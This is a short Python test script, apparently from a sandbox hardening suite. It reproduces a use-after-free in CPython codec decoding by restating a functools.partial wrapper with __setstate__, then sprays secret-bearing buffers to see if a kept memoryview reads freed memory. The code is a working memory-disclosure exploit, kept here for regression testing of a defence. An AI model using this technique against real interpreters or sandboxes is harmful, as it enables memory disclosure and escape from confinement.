# family: wall (memory: the codec guard's decode wrapper re-stated with partial.__setstate__, the program's decode given the lent view)   goal: memory   interpreter: /usr/bin/python3
# The seventeenth round's ok_05: codecs.lookup hands out the registry's CodecInfo,
# whose decode was the wall's functools.partial(codec_decode, <program decode>);
# its __setstate__ put the program's decode in front, with no codec_decode, and
# X153's kept view read freed bytes. Under plain python3 the decode is the
# program's own and X153 happens as it is. The wall: the wrapper is the C half's
# bound call (wall_landlock.bound): no __setstate__, no func to read.
import sys
codecs = sys.modules["codecs"]
kept = []
def decode(data, errors="strict"):
    kept.append(data)
    return ("x", len(data))
def search(name):
    if name == "keep.restated":
        return codecs.CodecInfo(None, decode, name="keep.restated")
    return None
codecs.register(search)
info = codecs.lookup("keep.restated")
if info.decode is not decode:
    try:
        restate = info.decode.__setstate__
    except AttributeError:
        raise SystemExit("the wrapper has no __setstate__: " + type(info.decode).__name__)
    restate((decode, (), None, None))
b = bytes(b"A" * 100000)
b.decode("keep.restated")
view = kept[-1]
del b
keep = [b"SECRET!!" * 12400 for _ in range(3)]
seen = view.tobytes().count(b"SECRET!!")
if seen > 100:
    print("MEMORY-OVERWRITTEN: the kept view shows another object's bytes", seen, "times")
else:
    print("view:", view.tobytes()[:8], view.obj is None)
